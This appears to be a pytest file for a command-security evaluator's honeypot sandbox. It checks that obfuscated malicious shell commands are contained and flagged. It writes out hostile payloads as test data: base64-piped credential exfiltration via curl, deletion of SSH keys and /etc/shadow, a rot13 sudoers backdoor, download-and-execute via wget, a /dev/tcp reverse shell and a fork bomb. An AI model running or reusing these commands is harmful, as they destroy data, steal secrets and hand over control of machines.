"""Each red-team mechanism runs in the honeypot, its recorded behaviour is shown, and the host is untouched.

The host is checked from outside: the host paths a command targets are hashed before and after,
a TCP listener on the host's own address counts the connections that reached it (none may: the
sandbox's network namespace has only loopback, and the tracer answers every connect itself), and
no process of the sandbox's uid outlives the run.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import socket
import threading
from pathlib import Path

import pytest

from securecli_eval.sandbox import runner
from securecli_eval.sandbox.behaviour import BehaviourVerdict, judge
from securecli_eval.sandbox.honeypot import SEEDS, honeypot_status, observe

from .test_security import assert_no_sandbox_processes_left

AVAILABLE, REASON = honeypot_status()
pytestmark = pytest.mark.skipif(not AVAILABLE, reason=REASON)


def digest(path: Path) -> str:
    """A file's sha256, a directory's listing with its files' hashes (one level), or 'absent'."""
    if path.is_symlink():
        return f"link:{os.readlink(path)}"
    if path.is_dir():
        entries = sorted(path.iterdir())
        return hashlib.sha256(
            "\n".join(f"{e.name}:{digest(e) if e.is_file() else 'dir'}" for e in entries).encode()
        ).hexdigest()
    if path.is_file():
        try:
            return hashlib.sha256(path.read_bytes()).hexdigest()
        except PermissionError:
            return f"unreadable:{path.stat().st_size}:{path.stat().st_mtime_ns}"
    return "absent"


def host_address() -> str:
    """This machine's own address on its network (loopback when it has none)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
            return probe.getsockname()[0]
        except OSError:
            return "127.0.0.1"


class Listener:
    """A TCP server on the host (all addresses) that counts the connections and bytes reaching it."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("0.0.0.0", 0))
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.socket.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def run_untouched(command: str, targets: list[Path], listener: Listener) -> BehaviourVerdict:
    """Run ``command``, show its record, and check the host from outside."""
    before = {path: digest(path) for path in targets}
    observation = observe(command)
    verdict = judge(observation)
    print(json.dumps({"command": command, **verdict.to_dict()}, indent=1))
    assert {path: digest(path) for path in targets} == before, "the honeypot changed the host"
    assert listener.connections == 0, "a connection left the sandbox"
    assert_no_sandbox_processes_left()
    return verdict


HOME = Path.home()
HOST = host_address()


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def test_decode_and_pipe(listener):
    upload = f"curl -s --data-binary @- http://{HOST}:{listener.port}/"
    payload = f"rm -rf ~/.ssh /etc/cron.d; cat ~/.aws/credentials | {upload}"
    command = f"echo {b64(payload)} | base64 -d | sh"
    targets = [HOME / ".ssh", Path("/etc/cron.d"), HOME / ".aws", Path("/root/.ssh")]
    verdict = run_untouched(command, targets, listener)
    assert verdict.verdict == "block" and verdict.rule == "BEXF001"
    assert any(run.startswith("rm -rf /root/.ssh /etc/cron.d") for run in verdict.execs)  # what bash decoded
    assert "/root/.ssh/id_rsa" in verdict.deletes and "/etc/cron.d" in verdict.deletes
    assert verdict.reads == ("/root/.aws/credentials",)
    assert f"{HOST}:{listener.port} (curl)" in verdict.connects


def test_variable_indirection(listener):
    command = "a=r; b=m; c=/et; d=c/sha; e=dow; $a$b -f $c$d$e"
    verdict = run_untouched(command, [Path("/etc/shadow")], listener)
    assert (verdict.verdict, verdict.rule) == ("block", "BDEL001")
    assert verdict.execs == ("rm -f /etc/shadow",) and "/etc/shadow" in verdict.deletes


def test_interpreter_one_liner(listener):
    # the path and the line are rot13 inside Python: no reader of the command sees either
    code = (
        "import codecs as c;r=lambda s:c.decode(s,'rot13');"
        "open(r('/rgp/fhqbref'),'a').write(r('nyvpr NYY=(NYY) ABCNFFJQ: NYY')+chr(10))"
    )
    verdict = run_untouched(f'python3 -c "{code}"', [Path("/etc/sudoers")], listener)
    assert (verdict.verdict, verdict.rule) == ("block", "BPRIV001")
    assert "/etc/sudoers" in verdict.writes


def test_downloaded_then_run(listener):
    command = f"wget -qO /tmp/.u http://{HOST}:{listener.port}/u && chmod +x /tmp/.u && /tmp/.u"
    verdict = run_untouched(command, [Path("/tmp/.u")], listener)
    assert (verdict.verdict, verdict.rule) == ("block", "BRCE002")
    assert f"{HOST}:{listener.port} (wget)" in verdict.connects  # the attempt, recorded and never made
    assert "/tmp/.u" in verdict.execs and "/tmp/.u" in verdict.writes


def test_reverse_shell_attempt(listener):
    command = f"bash -c 'bash -i >& /dev/tcp/{HOST}/{listener.port} 0>&1'"
    verdict = run_untouched(command, [], listener)
    assert (verdict.verdict, verdict.rule, verdict.category) == ("block", "BREV001", "reverse_shell")
    assert f"{HOST}:{listener.port} (bash)" in verdict.connects


def test_fork_bomb(listener):
    verdict = run_untouched(":(){ :|:& };:", [], listener)
    assert (verdict.verdict, verdict.rule) == ("block", "BFORK001")
    assert verdict.processes >= 10 and verdict.exit_code is None  # ended as soon as the limit refused a fork


def test_every_run_starts_from_the_same_fake_system():
    seed = SEEDS.get(None if os.geteuid() != 0 else runner._host_uid())
    before = digest(seed / "root" / "root" / ".ssh")
    first = judge(observe("rm -rf ~ /etc && echo gone"))
    assert first.verdict == "block" and first.exit_code == 0
    assert digest(seed / "root" / "root" / ".ssh") == before
    second = judge(observe("cat ~/.ssh/id_rsa.pub >/dev/null && ls /etc/shadow"))
    assert (second.verdict, second.exit_code) == ("allow", 0)


def test_the_command_runs_as_root_and_cannot_reach_the_layers():
    observation = observe(
        "id -u; ls /run/honeypot /run/seed 2>&1 | wc -l; touch /usr/bin/planted; ls /usr/bin/planted"
    )
    assert observation.exit_code == 0, observation.stderr
    assert observation.stdout.splitlines() == ["0", "2", "/usr/bin/planted"]  # two "No such file" lines
    assert not Path("/usr/bin/planted").exists()
    assert [c.path for c in observation.changes] == ["/usr/bin/planted"]


def test_an_unprivileged_caller_gets_the_same_honeypot():
    from .test_security import run_unprivileged

    code = (
        "from securecli_eval.sandbox.behaviour import behaviour\n"
        "for c in ['echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']:\n"
        "    print(behaviour(c).rule)\n"
    )
    completed = run_unprivileged(code)
    assert completed.returncode == 0, completed.stderr[-2000:]
    assert completed.stdout.split() == ["BCRED001", "BREV001"]


def test_the_upper_layer_is_out_of_reach_even_through_the_sandboxs_first_process():
    observation = observe("ls -A /proc/1/root/run/honeypot | wc -l; rm -rf /root/.ssh")
    assert observation.stdout.split() == ["0"], observation.stderr
    assert any(change.path == "/root/.ssh" and change.kind == "deleted" for change in observation.changes)
